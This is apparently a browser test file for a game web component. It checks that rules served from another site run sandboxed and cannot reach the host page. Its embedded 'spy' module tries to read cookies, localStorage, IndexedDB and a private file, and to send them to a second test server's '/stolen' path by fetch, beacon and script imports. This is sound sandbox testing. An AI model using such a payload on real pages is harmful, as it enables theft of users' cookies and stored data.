/** Rules of another site, in the component and in a published site: what they reach of the page that shows them is nothing. */
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, inject } from 'vitest';
import type { GameState, ZugzwangGame } from '../element/zugzwang-game.d.ts';
import { readyWithValues } from './support/desk.ts';
import { type FileServer, serveFolder } from './support/file-server.ts';
import { takeScreenshot } from './support/output.ts';
import { at, test } from './support/test.ts';

const folder = mkdtempSync(join(tmpdir(), 'zugzwang-foreign-'));
/** The page's own site, and another one, which waits for what is stolen. */
let own: FileServer;
let other: FileServer;

/** Rules that look for whatever the page has, and send it away; their name is what they found. */
const spy = (home: string, away: string) => `
const found = [];
const from = text => ${JSON.stringify(away)} + '/stolen?' + encodeURIComponent(text);
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.getItem('secret'),
  database: () => new Promise((done, fail) => { const r = indexedDB.open('secret'); r.onsuccess = done; r.onerror = fail; }),
  caches: () => caches.open('secret'),
  files: () => navigator.storage.getDirectory(),
  fetch: () => fetch(${JSON.stringify(home)} + 'private.txt', { credentials: 'include' }),
  away: () => fetch(from('hello'), { mode: 'no-cors' }),
  beacon: () => { if (!navigator.sendBeacon(from('beacon'))) throw 1; },
  scripts: () => importScripts(from('scripts')),
  module: () => import(from('module')),
  worker: () => new Worker(from('worker')),
  parent: () => parent.document.title,
  channel: () => new BroadcastChannel('secret'),
  events: () => addEventListener('message', () => {}),
  dispatch: () => dispatchEvent(new Event('message')),
  inherited: () => { for (let one = globalThis; one; one = Object.getPrototypeOf(one)) if (Object.hasOwn(one, 'dispatchEvent')) return; throw 1; },
};
for (const [name, attempt] of Object.entries(tries)) {
  try { await attempt(); found.push(name); } catch {}
}
export default defineGame({ name: 'reached: ' + (found.join() || 'nothing'), start: 5, moves: n => [1, 2].filter(k => k <= n), play: (n, k) => n - k });
`;

const ENTRY = {
  ...{ spec: 'spy.ts', id: 'spy.ts', title: 'Spy', summary: '', players: null, isLoopy: false, hasPayoff: false },
  ...{ positions: null, start: null, picture: { kind: 'text', text: '5' } },
};

/** A site as anybody can write one. */
function writeSite(name: string, modules: unknown, rules = 'rules/spy.ts-1.json'): void {
  mkdirSync(join(folder, name, 'rules'), { recursive: true });
  writeFileSync(
    join(folder, name, 'site.json'),
    JSON.stringify({ schema: 1, software: 'zugzwang', games: [{ ...ENTRY, rules }] }),
  );
  writeFileSync(join(folder, name, rules), typeof modules === 'string' ? modules : JSON.stringify({ modules }));
}

function writePage(name: string, body: string, more = ''): void {
  const policy = `default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self' ${new URL(other.url).origin}${more}`;
  const head = `<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${policy}"><title>A page</title>
    <script type="module" src="element/zugzwang-game.js"></script>`;
  writeFileSync(join(folder, name), `<!doctype html><html lang="en"><head>${head}</head><body>${body}</body></html>`);
}

beforeAll(async () => {
  cpSync(fileURLToPath(new URL('../../dist/element', import.meta.url)), join(folder, 'element'), { recursive: true });
  writeFileSync(join(folder, 'private.txt'), 'a secret');
  own = await serveFolder(folder, { ranges: true });
  other = await serveFolder(folder, { ranges: true, cors: true });
  const modules = [["import { defineGame } from '", 'zugzwang', `';\n${spy(own.url, new URL(other.url).origin)}`]];
  writeSite('spies', modules);
  writeSite('old', 'fetch("/stolen?old"); export default 1;', 'rules/spy.ts-1.js');
  const element = (src: string, more = '') =>
    `<zugzwang-game id="a" game="spy.ts" src="${src}" values ${more}></zugzwang-game>`;
  writePage('asks.html', element(`${other.url}spies/`), "; frame-src 'self'");
  writePage('allows.html', element(`${other.url}spies/`, 'allow-rules'), "; frame-src 'self'");
  writePage('own.html', element('spies/'), "; frame-src 'self'");
  writePage('old.html', element('old/'), "; frame-src 'self'");
  writePage('framed.html', element('spies/'), '');
});
afterAll(() => {
  own.close();
  other.close();
  rmSync(folder, { recursive: true, force: true });
});

/** A cookie, an entry and a database, before anything of the page runs. */
const withSecrets = async (context: BrowserContext) => {
  await context.addCookies([{ name: 'secret', value: 'cookie', url: own.url }]);
  await context.addInitScript(() => {
    if (origin === 'null') return;
    localStorage.setItem('secret', 'kept');
    indexedDB.open('secret').onupgradeneeded = () => {};
  });
};

/** What is refused is told to the console; the other site is asked for its list and its rules, and for nothing else. */
const REFUSED = [/another origin|Content Security Policy|csp|Failed to|net::ERR|Refused|blocked/];

const state = (page: Page): Promise<GameState> =>
  page.locator('#a').evaluate(element => structuredClone((element as ZugzwangGame).state));
async function solved(page: Page): Promise<GameState> {
  for (;;) {
    const now = await state(page);
    if (now.outcome !== undefined) return now;
    if (now.status === 'error') expect.fail(JSON.stringify(now.errors));
    await page.waitForTimeout(40);
  }
}

/** The game plays, its rules have found nothing, and the page has what it had. */
async function isHarmless(page: Page): Promise<void> {
  expect(await solved(page)).toMatchObject({ position: '5', outcome: 'win' });
  await page.getByRole('group', { name: 'reached: nothing' }).waitFor();
  expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('kept');
  expect([...own.served, ...other.served].filter(({ path }) => /stolen|private/.test(path))).toEqual([]);
}

test('rules of another site run when the visitor agrees, and reach nothing', async ({ visit }) => {
  // What this page asks for, whatever those of the tests beside it do.
  const asked: string[] = [];
  const before = async (context: BrowserContext) => {
    context.on('request', request => asked.push(request.url()));
    await withSecrets(context);
  };
  const rulesAsked = () => asked.filter(url => url.startsWith(`${other.url}spies/rules/`)).length;
  const page = await visit(`${own.url}asks.html`, { before, expected: REFUSED });
  const run = page.getByRole('button', { name: 'Run it' });
  await run.waitFor();
  expect((await state(page)).errors).toMatchObject([
    { code: 'rules', message: expect.stringContaining('allow-rules') },
  ]);
  expect(await page.locator('iframe').count()).toBe(0);
  await takeScreenshot(page, 'embed-foreign-rules', 1280, 'light');
  expect(rulesAsked()).toBe(0);
  await run.click();
  await isHarmless(page);
  expect(rulesAsked()).toBe(1);
});

test('rules of another site run where the page allows them, and reach nothing', async ({ visit }) => {
  await isHarmless(await visit(`${own.url}allows.html`, { before: withSecrets, expected: REFUSED }));
});

test('rules of the page’s own site run in the same place', async ({ visit }) => {
  const page = await visit(`${own.url}own.html`, { before: withSecrets, expected: REFUSED });
  await isHarmless(page);
  expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-scripts');
});

test('a program that an earlier version has published is not run', async ({ visit }) => {
  const page = await visit(`${own.url}old.html`, { before: withSecrets });
  await page.getByText('have to be published anew').waitFor();
  expect(own.served.filter(({ path }) => path.includes('stolen'))).toEqual([]);
});

test('where the policy of the page knows no frames, that is said', async ({ visit }) => {
  const page = await visit(`${own.url}framed.html`, { expected: [/frame/i] });
  await page.getByText('is forbidden by the policy of this page (frame-src)').first().waitFor();
});

test('on a published site rules reach nothing either', async ({ visit, onTestFinished }) => {
  const site = join(folder, 'site');
  cpSync(inject('site'), site, { recursive: true });
  writeSite('site', [["import { defineGame } from '", 'zugzwang', `';\n${spy(own.url, new URL(other.url).origin)}`]]);
  const server = await serveFolder(site, { ranges: true });
  onTestFinished(() => server.close());
  const page = await visit(at('play/spy.ts', server.url), { before: withSecrets, expected: REFUSED });
  await readyWithValues(page);
  await page.getByRole('heading', { level: 1, name: 'reached: nothing' }).waitFor();
  expect(other.served.filter(({ path }) => path.includes('stolen'))).toEqual([]);
});
